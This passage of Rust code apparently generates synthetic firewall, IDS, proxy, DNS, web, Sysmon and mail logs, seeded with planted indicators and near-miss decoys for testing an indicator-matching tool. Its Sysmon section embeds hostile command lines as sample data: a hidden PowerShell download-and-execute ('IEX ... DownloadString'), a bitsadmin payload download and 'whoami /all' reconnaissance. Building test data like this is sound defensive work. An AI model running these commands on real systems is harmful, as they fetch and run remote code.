            self.s(" sentpkt=");
            self.nr(1, 3000);
            self.s(" rcvdpkt=");
            self.nr(1, 20_000);
        } else {
            self.s("logid=\"0316013057\" type=\"utm\" subtype=\"webfilter\" eventtype=\"ftgd_blk\" level=\"warning\" vd=\"root\" policyid=");
            self.nr(1, 40);
            self.s(" sessionid=");
            self.nr(1_000_000, 99_999_999);
            self.s(" srcip=");
            self.ip4_int();
            self.s(" srcport=");
            self.port();
            self.s(" dstip=");
            self.ip4();
            self.s(" dstport=443 proto=6 service=\"HTTPS\" hostname=\"");
            let d = self.domain();
            self.s("\" action=\"blocked\" url=\"https://");
            self.again(d);
            let mut path = std::mem::take(&mut self.tmp);
            path.clear();
            gen_path(&mut self.rng, &mut path, false);
            self.s(&path);
            self.tmp = path;
            self.s("\" msg=\"URL belongs to a denied category in policy\" catdesc=\"");
            self.p(&[
                "Malicious Websites",
                "Phishing",
                "Newly Observed Domain",
                "Spam URLs",
            ]);
            self.s("\"");
        }
    }

    fn zeek_uid(&mut self) {
        self.s("C");
        let mut t = std::mem::take(&mut self.tmp);
        t.clear();
        push_alnum(&mut self.rng, &mut t, 17);
        self.s(&t);
        self.tmp = t;
    }

    fn f_zeek(&mut self) {
        self.ts_epoch(6);
        self.s("\t");
        match self.sub(&[
            (12, IP4 | IP6),
            (5, IP4 | IP6 | DOM),
            (2, IP4 | DOM | URL | UA),
            (1, IP4 | HASHES),
        ]) {
            0 => {
                // conn.log
                self.zeek_uid();
                self.s("\t");
                let v6 = self.sub(&[(9, IP4), (1, IP6)]) == 1;
                let inbound = self.rng.gen_ratio(1, 3);
                match (v6, inbound) {
                    (false, false) => {
                        self.ip4_int();
                        self.s("\t");
                        self.port();
                        self.s("\t");
                        self.ip4();
                    }
                    (false, true) => {
                        self.ip4();
                        self.s("\t");
                        self.port();
                        self.s("\t");
                        self.ip4_int();
                    }
                    (true, false) => {
                        self.ip6_int();
                        self.s("\t");
                        self.port();
                        self.s("\t");
                        self.ip6();
                    }
                    (true, true) => {
                        self.ip6();
                        self.s("\t");
                        self.port();
                        self.s("\t");
                        self.ip6_int();
                    }
                }
                self.s("\t");
                self.p(&[
                    "443\ttcp\tssl",
                    "80\ttcp\thttp",
                    "53\tudp\tdns",
                    "22\ttcp\tssh",
                    "123\tudp\t-",
                ]);
                self.s("\t");
                self.nr(0, 300);
                self.s(".");
                self.padr(0..1_000_000, 6);
                self.s("\t");
                self.nr(0, 100_000);
                self.s("\t");
                self.nr(0, 5_000_000);
                self.s("\t");
                self.p(&["SF", "S0", "REJ", "RSTO", "SH", "OTH"]);
                self.s("\tT\tF\t0\t");
                self.p(&["ShADadFf", "S", "ShADadfR", "Dd", "ShAdDaFf"]);
                self.s("\t");
                self.nr(1, 200);
                self.s("\t");
                self.nr(40, 200_000);
                self.s("\t");
                self.nr(0, 300);
                self.s("\t");
                self.nr(0, 5_000_000);
                self.s("\t-");
            }
            1 => {
                // dns.log
                self.zeek_uid();
                self.s("\t");
                self.ip4_int();
                self.s("\t");
                self.port();
                self.s("\t");
                if self.rng.gen_ratio(1, 2) {
                    self.ip4_int();
                } else {
                    self.ip4();
                }
                self.s("\t53\tudp\t");
                self.nr(1, 65535);
                self.s("\t0.");
                self.padr(0..100_000, 6);
                self.s("\t");
                self.domain();
                let aaaa = self.sub(&[(4, IP4 | DOM), (1, IP6 | DOM)]) == 1;
                self.s(if aaaa {
                    "\t1\tC_INTERNET\t28\tAAAA\t0\tNOERROR\tF\tF\tT\tT\t0\t"
                } else {
                    "\t1\tC_INTERNET\t1\tA\t0\tNOERROR\tF\tF\tT\tT\t0\t"
                });
                let n = self.rng.gen_range(1..3);
                for i in 0..n {
                    if i > 0 {
                        self.s(",");
                    }
                    if aaaa {
                        self.ip6();
                    } else {
                        self.ip4();
                    }
                }
                self.s("\t");
                for i in 0..n {
                    if i > 0 {
                        self.s(",");
                    }
                    self.nr(30, 3600);
                    self.s(".000000");
                }
                self.s("\tF");
            }
            2 => {
                // http.log
                self.zeek_uid();
                self.s("\t");
                self.ip4_int();
                self.s("\t");
                self.port();
                self.s("\t");
                self.ip4();
                self.s("\t80\t1\tGET\t");
                self.domain();
                self.s("\t");
                let mut path = std::mem::take(&mut self.tmp);
                path.clear();
                gen_path(&mut self.rng, &mut path, false);
                self.s(&path);
                self.tmp = path;
                self.s("\t");
                if self.sub(&[(1, 0), (1, URL)]) == 1 {
                    self.url();
                } else {
                    self.s("-");
                }
                self.s("\t1.1\t");
                self.ua();
                self.s("\t-\t0\t");
                self.nr(0, 500_000);
                self.s("\t");
                self.p(&[
                    "200\tOK",
                    "404\tNot Found",
                    "302\tFound",
                    "301\tMoved Permanently",
                ]);
                self.s("\t-\t-\t(empty)\t-\t-\t-\t-\t-\tF");
                let mut t = std::mem::take(&mut self.tmp);
                t.clear();
                push_alnum(&mut self.rng, &mut t, 17);
                self.s(&t);
                self.tmp = t;
                self.s("\ttext/html");
            }
            _ => {
                // files.log
                self.s("F");
                let mut t = std::mem::take(&mut self.tmp);
                t.clear();
                push_alnum(&mut self.rng, &mut t, 17);
                self.s(&t);
                self.tmp = t;
                self.s("\t");
                self.ip4();
                self.s("\t");
                self.ip4_int();
                self.s("\t");
                self.zeek_uid();
                self.s("\tHTTP\t0\tMD5,SHA1,SHA256\tapplication/x-dosexec\t-\t0.");
                self.padr(0..1_000_000, 6);
                self.s("\tF\tF\t");
                let size = self.rng.gen_range(1000..5_000_000);
                self.n(size);
                self.s("\t");
                self.n(size);
                self.s("\t0\t0\tF\t-\t");
                self.hash(MD5, false);
                self.s("\t");
                self.hash(SHA1, false);
                self.s("\t");
                self.hash(SHA256, false);
                self.s("\t-\t-");
            }
        }
    }

    fn eve_head(&mut self, event: &str, v6: bool, inbound: bool, dport: &str, proto: &str) {
        self.s("{\"timestamp\":\"");
        self.ts_iso_us();
        self.s("\",\"flow_id\":");
        self.nr(100_000_000_000_000, 2_000_000_000_000_000);
        self.s(",\"in_iface\":\"eth0\",\"event_type\":\"");
        self.s(event);
        self.s("\",\"src_ip\":\"");
        self.addr(v6, inbound);
        self.s("\",\"src_port\":");
        self.port();
        self.s(",\"dest_ip\":\"");
        self.addr(v6, !inbound);
        self.s("\",\"dest_port\":");
        self.s(dport);
        self.s(",\"proto\":\"");
        self.s(proto);
        self.s("\"");
    }

    fn f_suricata(&mut self) {
        match self.sub(&[
            (5, IP4 | IP6),
            (5, IP4 | IP6),
            (5, IP4 | DOM),
            (2, IP4 | DOM | UA),
            (2, IP4 | DOM),
            (1, IP4 | HASHES),
            (3, IP4),
        ]) {
            0 => {
                let v6 = self.sub(&[(9, IP4), (1, IP6)]) == 1;
                let port = self.one(&["22", "23", "445", "3389", "1433", "80"]);
                self.eve_head("alert", v6, true, port, "TCP");
                let (sig, cat) = ET_SIGS[self.rng.gen_range(0..ET_SIGS.len())];
                self.s(",\"alert\":{\"action\":\"allowed\",\"gid\":1,\"signature_id\":");
                self.nr(2_000_000, 2_900_000);
                self.s(",\"rev\":");
                self.nr(1, 70_000);
                self.s(",\"signature\":\"");
                self.s(sig);
                self.s("\",\"category\":\"");
                self.s(cat);
                self.s("\",\"severity\":");
                self.nr(1, 4);
                self.s("},\"app_proto\":\"failed\"}");
            }
            1 => {
                let v6 = self.sub(&[(9, IP4), (1, IP6)]) == 1;
                let inbound = self.rng.gen_ratio(1, 2);
                let (port, proto) = [
                    ("443", "TCP"),
                    ("80", "TCP"),
                    ("53", "UDP"),
                    ("123", "UDP"),
                    ("22", "TCP"),
                ][self.rng.gen_range(0..5)];
                self.eve_head("flow", v6, inbound, port, proto);
                self.s(",\"flow\":{\"pkts_toserver\":");
                self.nr(1, 500);
                self.s(",\"pkts_toclient\":");
                self.nr(0, 500);
                self.s(",\"bytes_toserver\":");
                self.nr(40, 500_000);
                self.s(",\"bytes_toclient\":");
                self.nr(0, 5_000_000);
                self.s(",\"state\":\"");
                self.p(&["closed", "new", "established"]);
                self.s("\",\"reason\":\"timeout\",\"alerted\":false}}");
            }
            2 => {
                self.eve_head("dns", false, false, "53", "UDP");
                self.s(",\"dns\":{\"type\":\"query\",\"id\":");
                self.nr(1, 65535);
                self.s(",\"rrname\":\"");
                self.domain();
                self.s("\",\"rrtype\":\"");
                self.p(&["A", "AAAA", "A", "HTTPS", "TXT"]);
                self.s("\",\"tx_id\":0}}");
            }
            3 => {
                self.eve_head("http", false, false, "80", "TCP");
                self.s(",\"http\":{\"hostname\":\"");
                self.domain();
                self.s("\",\"url\":\"");
                let mut path = std::mem::take(&mut self.tmp);
                path.clear();
                gen_path(&mut self.rng, &mut path, false);
                self.s(&path);
                self.tmp = path;
                self.s("\",\"http_user_agent\":\"");
                self.ua();
                self.s("\",\"http_content_type\":\"text/html\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":");
                self.p(&["200", "404", "302", "403"]);
                self.s(",\"length\":");
                self.nr(0, 200_000);
                self.s("}}");
            }
            4 => {
                self.eve_head("tls", false, false, "443", "TCP");
                self.s(",\"tls\":{\"subject\":\"CN=");
                let d = self.domain();
                self.s("\",\"issuerdn\":\"C=US, O=Let's Encrypt, CN=R3\",\"serial\":\"");
                for i in 0..9 {
                    if i > 0 {
                        self.s(":");
                    }
                    self.hex(2, true);
                }
                self.s("\",\"fingerprint\":\"");
                for i in 0..20 {
                    if i > 0 {
                        self.s(":");
                    }
                    self.hex(2, false);
                }
                self.s("\",\"sni\":\"");
                self.again(d);
                self.s("\",\"version\":\"TLS 1.2\"}}");
            }
            5 => {
                self.eve_head("fileinfo", false, true, "80", "TCP");
                self.s(",\"fileinfo\":{\"filename\":\"/");
                let mut t = std::mem::take(&mut self.tmp);
                t.clear();
                push_word(&mut self.rng, &mut t, 3);
                self.s(&t);
                self.tmp = t;
                self.s(".exe\",\"magic\":\"PE32 executable (GUI) Intel 80386, for MS Windows\",\"state\":\"CLOSED\",\"md5\":\"");
                self.hash(MD5, false);
                self.s("\",\"sha1\":\"");
                self.hash(SHA1, false);
                self.s("\",\"sha256\":\"");
                self.hash(SHA256, false);
                self.s("\",\"stored\":false,\"size\":");
                self.nr(1000, 5_000_000);
                self.s(",\"tx_id\":0}}");
            }
            _ => {
                // fast.log
                self.pad(self.tm.mo as u64, 2);
                self.s("/");
                self.pad(self.tm.d as u64, 2);
                self.s("/");
                self.n(self.tm.y as u64);
                self.s("-");
                self.hms();
                self.s(".");
                self.padr(0..1_000_000, 6);
                let (sig, cat) = ET_SIGS[self.rng.gen_range(0..ET_SIGS.len())];
                self.s("  [**] [1:");
                self.nr(2_000_000, 2_900_000);
                self.s(":");
                self.nr(1, 20);
                self.s("] ");
                self.s(sig);
                self.s(" [**] [Classification: ");
                self.s(cat);
                self.s("] [Priority: 2] {TCP} ");
                self.ip4();
                self.s(":");
                self.port();
                self.s(" -> ");
                self.ip4_int();
                self.s(":");
                self.p(&["22", "23", "445", "3389", "80"]);
            }
        }
    }

    fn f_apache(&mut self) {
        if self.sub(&[(9, IP4 | URL | UA), (1, IP6 | URL | UA)]) == 1 {
            self.ip6();
        } else {
            self.ip4();
        }
        self.s(" - - [");
        self.ts_apache();
        self.s("] \"");
        self.p(&["GET", "GET", "GET", "POST", "HEAD"]);
        self.s(" ");
        let mut path = std::mem::take(&mut self.tmp);
        path.clear();
        gen_path(&mut self.rng, &mut path, false);
        self.s(&path);
        self.tmp = path;
        self.s(" HTTP/1.1\" ");
        self.p(&["200", "200", "200", "304", "404", "301", "500"]);
        self.s(" ");
        self.nr(0, 300_000);
        self.s(" \"");
        match self.sub(&[(3, 0), (3, 0), (4, URL)]) {
            0 => self.s("-"),
            1 => {
                self.s("https://www.northwind-traders.com");
                let mut path = std::mem::take(&mut self.tmp);
                path.clear();
                gen_path(&mut self.rng, &mut path, false);
                self.s(&path);
                self.tmp = path;
            }
            _ => {
                self.url();
            }
        }
        self.s("\" \"");
        self.ua();
        self.s("\"");
    }

    fn f_squid(&mut self) {
        self.ts_epoch(3);
        self.s(" ");
        let el = self.rng.gen_range(1..99_999);
        let w = if el < 10 {
            5
        } else if el < 100 {
            4
        } else if el < 1000 {
            3
        } else if el < 10_000 {
            2
        } else {
            1
        };
        for _ in 0..w {
            self.s(" ");
        }
        self.n(el);
        self.s(" ");
        self.ip4_int();
        if self.sub(&[(3, URL | IP4), (1, DOM | IP4)]) == 0 {
            self.s(" ");
            self.p(&[
                "TCP_MISS/200",
                "TCP_MISS/200",
                "TCP_REFRESH_MODIFIED/200",
                "TCP_MISS/404",
                "TCP_DENIED/403",
            ]);
            self.s(" ");
            self.nr(300, 2_000_000);
            self.s(" GET ");
            self.url();
            self.s(" ");
            self.p(&["-", "-", "jdoe", "msmith"]);
            self.s(" HIER_DIRECT/");
            self.ip4();
            self.s(" ");
            self.p(&[
                "text/html",
                "application/octet-stream",
                "image/png",
                "application/json",
            ]);
        } else {
            self.s(" TCP_TUNNEL/200 ");
            self.nr(300, 20_000_000);
            self.s(" CONNECT ");
            self.domain();
            self.s(":443 ");
            self.p(&["-", "-", "jdoe", "msmith"]);
            self.s(" HIER_DIRECT/");
            self.ip4();
            self.s(" -");
        }
    }

    fn f_dns(&mut self) {
        self.ts_syslog();
        match self.sub(&[(5, DOM | IP4), (2, DOM), (2, DOM | IP4 | IP6)]) {
            0 => {
                self.s(" ns1 named[812]: client @0x7f");
                self.hex(10, false);
                self.s(" ");
                if self.sub(&[(4, 0), (1, IP4)]) == 1 {
                    self.ip4();
                } else {
                    self.ip4_int();
                }
                self.s("#");
                self.port();
                self.s(" (");
                let d = self.domain();
                self.s("): query: ");
                self.again(d);
                self.s(" IN ");
                self.p(&["A", "A", "AAAA", "MX", "TXT", "HTTPS"]);
                self.s(" ");
                self.p(&["+E(0)K", "+", "-E(0)", "+ET"]);
                self.s(" (");
                self.ip4_int();
                self.s(")");
            }
            1 => {
                self.s(" gw dnsmasq[611]: query[");
                self.p(&["A", "AAAA", "HTTPS"]);
                self.s("] ");
                self.domain();
                self.s(" from ");
                self.ip4_int();
            }
            _ => {
                self.s(" gw dnsmasq[611]: reply ");
                self.domain();
                self.s(" is ");
                if self.sub(&[(4, IP4 | DOM), (1, IP6 | DOM)]) == 1 {
                    self.ip6();
                } else {
                    self.ip4();
                }
            }
        }
    }

    fn sysmon_head(&mut self, eid: u32) {
        self.s("{\"EventTime\":\"");
        self.ymd();
        self.s(" ");
        self.hms();
        self.s("\",\"Hostname\":\"");
        self.p(WIN_HOSTS);
        self.s("\",\"EventID\":");
        self.n(eid as u64);
        self.s(",\"SourceName\":\"Microsoft-Windows-Sysmon\",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"RecordNumber\":");
        self.nr(100_000, 9_999_999);
        self.s(",\"UtcTime\":\"");
        self.ts_sql();
        self.s("\",\"ProcessGuid\":\"");
        self.guid();
        self.s("\",\"ProcessId\":\"");
        self.nr(100, 20_000);
        self.s("\"");
    }

    fn f_sysmon(&mut self) {
        match self.sub(&[(4, HASHES | URL | MUTEX), (4, IP4 | IP6 | DOM), (2, DOM)]) {
            0 => {
                self.sysmon_head(1);
                let v = self.sub(&[(4, 0), (2, URL), (1, URL), (1, MUTEX)]);
                match v {
                    0 => {
                        let (img, cmd) = [
                            (
                                r#"C:\\Windows\\System32\\cmd.exe"#,
                                r#"\"C:\\Windows\\system32\\cmd.exe\" /c whoami /all"#,
                            ),
                            (
                                r#"C:\\Windows\\System32\\svchost.exe"#,
                                r#"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"#,
                            ),
                            (
                                r#"C:\\Windows\\System32\\conhost.exe"#,
                                r#"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"#,
                            ),
                            (
                                r#"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"#,
                                r#"powershell.exe -NoProfile -Command Get-Process"#,
                            ),
                        ][self.rng.gen_range(0..4)];
                        self.s(",\"Image\":\"");
                        self.s(img);
                        self.s("\",\"CommandLine\":\"");
                        self.s(cmd);
                    }
                    1 => {
                        self.s(r#","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('"#);
                        self.url();
                        self.s("')\\\"");
                    }
                    2 => {
                        self.s(r#","Image":"C:\\Windows\\System32\\bitsadmin.exe","CommandLine":"bitsadmin /transfer job"#);
                        self.nr(1, 100);
                        self.s(" /download /priority high ");
                        self.url();
                        self.s(r#" C:\\Users\\Public\\"#);
                        self.nr(1000, 9999);
                        self.s(".ps1");
                    }
                    _ => {
                        self.s(r#","Image":"C:\\Users\\Public\\Downloads\\"#);
                        let mut t = std::mem::take(&mut self.tmp);
                        t.clear();
                        push_word(&mut self.rng, &mut t, 2);
                        self.s(&t);
                        self.s(r#".exe","CommandLine":"C:\\Users\\Public\\Downloads\\"#);
                        self.s(&t);
                        self.tmp = t;
                        self.s(".exe -m ");
                        self.mutex();
                        self.s(" -s");
                    }
                }
                self.s("\",\"FileVersion\":\"10.0.");
                self.nr(17_763, 22_631);
                self.s(".");
                self.nr(1, 4000);
                self.s("\",\"User\":\"");
                self.p(WIN_USERS);
                self.s("\",\"IntegrityLevel\":\"");
                self.p(&["Medium", "High", "System"]);
                self.s("\",\"Hashes\":\"SHA1=");
                self.hash(SHA1, true);
                self.s(",MD5=");
                self.hash(MD5, true);
                self.s(",SHA256=");
                self.hash(SHA256, true);
                self.s(",IMPHASH=");
                // an imphash is not a file hash indicator, but it is a 32-digit hex token
                let r = self.buf.len();
                loop {
                    self.buf.truncate(r);
                    self.hex(32, true);
                    let s = std::str::from_utf8(&self.buf[r..])
                        .unwrap()
                        .to_ascii_lowercase();
                    if !self.set.idx.hashes.contains(&fp(&s)) {
                        break;
                    }
                }
                self.s(r#"","ParentImage":"C:\\Windows\\explorer.exe"}"#);
            }
            1 => {
                self.sysmon_head(3);
                self.s(r#","Image":""#);
                self.p(&[
                    r#"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"#,
                    r#"C:\\Windows\\System32\\svchost.exe"#,
                    r#"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"#,
                    r#"C:\\Users\\Public\\update.exe"#,
                ]);
                self.s("\",\"User\":\"");
                self.p(WIN_USERS);
                self.s("\",\"Protocol\":\"tcp\",\"Initiated\":\"true\",");
                if self.sub(&[(9, IP4 | DOM), (1, IP6 | DOM)]) == 1 {
                    self.s("\"SourceIsIpv6\":\"true\",\"SourceIp\":\"");
                    self.ip6_int();
                    self.s("\",\"SourcePort\":\"");
                    self.port();
                    self.s("\",\"DestinationIsIpv6\":\"true\",\"DestinationIp\":\"");
                    self.ip6();
                } else {
                    self.s("\"SourceIsIpv6\":\"false\",\"SourceIp\":\"");
                    self.ip4_int();
                    self.s("\",\"SourcePort\":\"");
                    self.port();
                    self.s("\",\"DestinationIsIpv6\":\"false\",\"DestinationIp\":\"");
                    self.ip4();
                }
                self.s("\",\"DestinationHostname\":\"");
                self.domain();
                self.s("\",\"DestinationPort\":\"");
                self.p(&["443", "80", "8080", "4444", "8443"]);
                self.s("\"}");
            }
            _ => {
                self.sysmon_head(22);
                self.s(",\"QueryName\":\"");
                self.domain();
                self.s("\",\"QueryStatus\":\"0\",\"QueryResults\":\"type:  5 ");
                self.bg_domain_tmp();
                let t = std::mem::take(&mut self.tmp);
                self.s(&t);
                self.tmp = t;
                self.s(";::ffff:");
                let ip = self.bg_ip4();
                push_ip4(&mut self.buf, ip);
                self.s(";\",\"Image\":\"");
                self.p(&[
                    r#"C:\\Windows\\System32\\svchost.exe"#,
                    r#"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"#,
                    r#"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"#,
                ]);
                self.s("\",\"User\":\"");
                self.p(WIN_USERS);
                self.s("\"}");
            }
        }
    }

    fn queue_id(&mut self) {
        self.hex(10, true);
    }

    fn f_postfix(&mut self) {
        self.ts_syslog();
        self.s(" mx1 postfix/");
        let v6 = |g: &mut Self| g.sub(&[(9, IP4), (1, IP6)]) == 1;
        match self.sub(&[
            (2, DOM | IP4 | IP6),
            (3, EMAIL),
            (3, EMAIL | DOM | IP4 | IP6),
            (1, IP4 | EMAIL | DOM),
        ]) {
            0 => {
                self.s("smtpd[");
                self.nr(1000, 40_000);
                self.s("]: ");
                self.queue_id();
                self.s(": client=");
                if self.sub(&[(1, 0), (3, DOM)]) == 0 {
                    self.s("unknown");
                } else {
                    self.domain();
                }
                self.s("[");
                if v6(self) {
                    self.ip6();
                } else {
                    self.ip4();
                }
                self.s("]");
            }
            1 => {
                self.s("qmgr[");
                self.nr(1000, 40_000);
                self.s("]: ");
                self.queue_id();
                self.s(": from=<");
                self.email();
                self.s(">, size=");
                self.nr(500, 5_000_000);
                self.s(", nrcpt=");
                self.nr(1, 5);
                self.s(" (queue active)");
            }
            2 => {
                self.s("smtp[");
                self.nr(1000, 40_000);
                self.s("]: ");
                self.queue_id();
                self.s(": to=<");
                self.email();
                self.s(">, relay=");
                self.domain();
                self.s("[");
                if v6(self) {
                    self.ip6();
                } else {
                    self.ip4();
                }
                self.s("]:25, delay=");
                self.nr(0, 10);
                self.s(".");
                self.nr(1, 10);
                self.s(", delays=0.1/0/0.");
                self.nr(1, 10);
                self.s("/0.");
                self.nr(1, 10);
                self.s(", dsn=2.0.0, status=sent (250 2.0.0 OK ");
                self.n(self.tm.secs);
                self.s(" ");
                let mut t = std::mem::take(&mut self.tmp);
                t.clear();
                push_alnum(&mut self.rng, &mut t, 14);
                self.s(&t);
                self.tmp = t;
                self.s(" - gsmtp)");
            }
            _ => {
                self.s("smtpd[");
                self.nr(1000, 40_000);
                self.s("]: NOQUEUE: reject: RCPT from unknown[");
                self.ip4();
                self.s("]: 554 5.7.1 <");
                let r = self.email();
                self.s(">: Relay access denied; from=<");
                self.again(r);
                self.s("> to=<");
                self.bg_email_tmp();
                let t = std::mem::take(&mut self.tmp);
                self.s(&t);
                self.tmp = t;
                self.s("> proto=ESMTP helo=<");
                self.domain();
                self.s(">");
            }
        }
    }

    // --- planted tokens ---

    fn rand_of<T: Clone>(&mut self, v: &[T]) -> T {
        v[self.rng.gen_range(0..v.len())].clone()
    }

    fn domain_variant(&mut self, d: &str, allow_sub: bool) -> String {
        match self.rng.gen_range(0..if allow_sub { 7 } else { 4 }) {
            0 => d.to_string(),
            1 => d.to_ascii_uppercase(),
            2 => format!("{d}."),
            3 => d
                .split('.')
                .map(|l| {
                    let mut c = l.to_string();
                    c[..1].make_ascii_uppercase();
                    c
                })
                .collect::<Vec<_>>()
                .join("."),
            _ => {
                let mut s = String::new();
                for _ in 0..self.rng.gen_range(1..3) {
                    if self.rng.gen_ratio(1, 2) {
                        s.push_str(self.one(SUB_LABELS));
                    } else {
                        push_word(&mut self.rng, &mut s, 2);
                    }
                    s.push('.');
                }
                s.push_str(d);
                s
            }
        }
    }

    /// The same URL after normalization: scheme or host case, default port, an
    /// unreserved character percent-encoded.
    fn url_variant(&mut self, u: &str) -> String {
        let (scheme, rest) = u.split_once("://").unwrap();
        let cut = rest.find('/').unwrap_or(rest.len());
        let (host, path) = rest.split_at(cut);
        let mut scheme = scheme.to_string();
        let mut host = host.to_string();
        let mut path = path.to_string();
        let r = self.rng.gen_range(0..5);
        if r == 0 {
            return u.to_string();
        }
        if r == 1 || self.rng.gen_ratio(1, 4) {
            scheme.make_ascii_uppercase();
        }
        if r == 2 || self.rng.gen_ratio(1, 4) {
            host.make_ascii_uppercase();
        }
        if (r == 3 || self.rng.gen_ratio(1, 4)) && !host.contains(':') {
            host.push_str(if scheme.eq_ignore_ascii_case("http") {
                ":80"
            } else {
                ":443"
            });
        }
        if r == 4 || self.rng.gen_ratio(1, 4) {
            let end = path.find('?').unwrap_or(path.len());
            let cands: Vec<usize> = path[..end]
                .bytes()
                .enumerate()
                .filter(|(_, b)| b.is_ascii_alphanumeric())
                .map(|(i, _)| i)
                .collect();
            if !cands.is_empty() {
                let i = self.rand_of(&cands);
                let b = path.as_bytes()[i];
                path.replace_range(i..i + 1, &format!("%{b:02X}"));
            }
        }
        format!("{scheme}://{host}{path}")
    }

    /// (kind, indicator, token, slot) for a planted true hit.
    fn plant_value(&mut self) -> (Kind, String, String, Slot) {
        let total: u32 = self.plant_kinds.iter().map(|k| k.1).sum();
        let mut r = self.rng.gen_range(0..total);
        let mut kind = self.plant_kinds[0].0;
        for &(k, w) in &self.plant_kinds {
            if r < w {
                kind = k;
                break;
            }
            r -= w;
        }
        let set = self.set;
        match kind {
            Kind::Ipv4 => {
                let ip = self.rand_of(&set.ipv4).to_string();
                (kind, ip.clone(), ip, IP4)
            }
            Kind::Cidr4 => {
                let (net, len) = self.rand_of(&set.cidr4);
                let host = u32::from(net) | (self.rng.r#gen::<u32>() & !mask4(len));
                (
                    kind,
                    format!("{net}/{len}"),
                    Ipv4Addr::from(host).to_string(),
                    IP4,
                )
            }
            Kind::Ipv6 => {
                let ip = u128::from(self.rand_of(&set.ipv6));
                let text = if self.rng.gen_ratio(1, 3) {
                    ipv6_text(ip)
                } else {
                    ipv6_variant(&mut self.rng, ip)
                };
                (kind, ipv6_text(ip), text, IP6)
            }
            Kind::Cidr6 => {
                let (net, len) = self.rand_of(&set.cidr6);
                let host = u128::from(net) | (self.rng.r#gen::<u128>() & !mask6(len));
                let text = if self.rng.gen_ratio(1, 2) {
                    ipv6_text(host)
                } else {
                    ipv6_variant(&mut self.rng, host)
                };
                (kind, format!("{net}/{len}"), text, IP6)
            }
            Kind::Domain | Kind::DomainExact => {
                let d = if kind == Kind::Domain {
                    self.rand_of(&set.domains)
                } else {
                    self.rand_of(&set.domains_exact)
                };
                let t = self.domain_variant(&d, kind == Kind::Domain);
                (kind, d, t, DOM)
            }
            Kind::Url => {
                let u = self.rand_of(&set.urls);
                let t = self.url_variant(&u);
                (kind, u, t, URL)
            }
            Kind::UrlPrefix => {
                let u = self.rand_of(&set.url_prefixes);
                let mut t = u.clone();
                push_word(&mut self.rng, &mut t, 2);
                t.push('.');
                t.push_str(self.one(FILE_EXTS));
                if self.rng.gen_ratio(1, 3) {
                    let _ = write!(t, "?id={}", self.rng.gen_range(1..10_000));
                }
                (kind, u, t, URL)
            }
            Kind::Md5 | Kind::Sha1 | Kind::Sha256 => {
                let which = match kind {
                    Kind::Md5 => 0,
                    Kind::Sha1 => 1,
                    _ => 2,
                };
                let i = self.rand_of(&set.hash_by_len[which]) as usize;
                let h = set.hashes[i].clone();
                let t = if self.rng.gen_ratio(1, 5) {
                    h.to_ascii_uppercase()
                } else {
                    h.clone()
                };
                (kind, h, t, [MD5, SHA1, SHA256][which])
            }
            Kind::Email => {
                let e = self.rand_of(&set.emails);
                let t = if self.rng.gen_ratio(1, 3) {
                    let (l, d) = e.split_once('@').unwrap();
                    format!("{l}@{}", d.to_ascii_uppercase())
                } else {
                    e.clone()
                };
                (kind, e, t, EMAIL)
            }
            Kind::Str | Kind::IStr => {
                let s = if kind == Kind::Str {
                    self.rand_of(&set.strings)
                } else {
                    self.rand_of(&set.istrings)
                };
                let t = if kind == Kind::IStr && self.rng.gen_ratio(2, 3) {
                    if self.rng.gen_ratio(1, 2) {
                        s.to_ascii_uppercase()
                    } else {
                        s.to_ascii_lowercase()
                    }
                } else {
                    s.clone()
                };
                let slot = if s.contains(' ') { UA } else { MUTEX };
                (kind, s, t, slot)
            }
        }
    }

    /// (kind, indicator, trap token, slot) for a trap, or `None` when none could be made.
    fn trap_value(&mut self) -> Option<(Kind, String, String, Slot)> {
        let set = self.set;
        let idx = &set.idx;
        for _ in 0..20 {
            let r = self.rng.gen_range(0..100);
            if r < 35 && !set.ipv4.is_empty() {
                let ip = self.rand_of(&set.ipv4).to_string();
                let t = match self.rng.gen_range(0..5) {
                    0 => format!("{}{ip}", self.rng.gen_range(1..10)),
                    1 => format!("{ip}{}", self.rng.gen_range(0..10)),
                    2 => format!("{ip}.{}", self.rng.gen_range(0..256)),
                    3 => format!("{}.{ip}", self.rng.gen_range(1..256)),
                    // a leading zero: `01.2.3.4` (still a substring match for grep)
                    _ => format!("0{ip}"),
                };
                if strict_v4(&t).is_some_and(|v| idx.v4_hit(v)) {
                    continue;
                }
                return Some((Kind::Ipv4, ip, t, IP4));
            } else if r < 65 && !(set.domains.is_empty() && set.domains_exact.is_empty()) {
                let exact = set.domains.is_empty()
                    || (!set.domains_exact.is_empty() && self.rng.gen_ratio(1, 6));
                let d = if exact {
                    self.rand_of(&set.domains_exact)
                } else {
                    self.rand_of(&set.domains)
                };
                let mut t = String::new();
                match self.rng.gen_range(0..if exact { 6 } else { 5 }) {
                    0 => {
                        t.push_str(self.one(&["not", "my", "x", "secure", "the", "e"]));
                        t.push_str(&d);
                    }
                    1 => {
                        push_word(&mut self.rng, &mut t, 1);
                        t.push('-');
                        t.push_str(&d);
                    }
                    2 => {
                        t.push_str(&d);
                        t.push('.');
                        t.push_str(self.one(&["au", "br", "uk", "cn", "ru", "de"]));
                    }
                    3 => {
                        t.push_str(&d);
                        t.push_str(self.one(&["munity", "pany", "x", "s", "work", "line"]));
                    }
                    4 => {
                        t.push_str(&d);
                        t.push('-');
                        t.push_str(self.one(&["secure", "login", "cdn", "verify"]));
                        t.push('.');
                        t.push_str(self.one(&["net", "com", "org"]));
                    }
                    _ => {
                        t.push_str(self.one(SUB_LABELS));
                        t.push('.');
                        t.push_str(&d);
                    }
                }
                if idx.domain_hit(&t) || idx.url_hosts.contains(&fp(&t)) {
                    continue;
                }
                let kind = if exact {
                    Kind::DomainExact
                } else {
                    Kind::Domain
                };
                return Some((kind, d, t, DOM));
            } else if r < 77 && !set.hashes.is_empty() {
                let i = self.rng.gen_range(0..set.hashes.len());
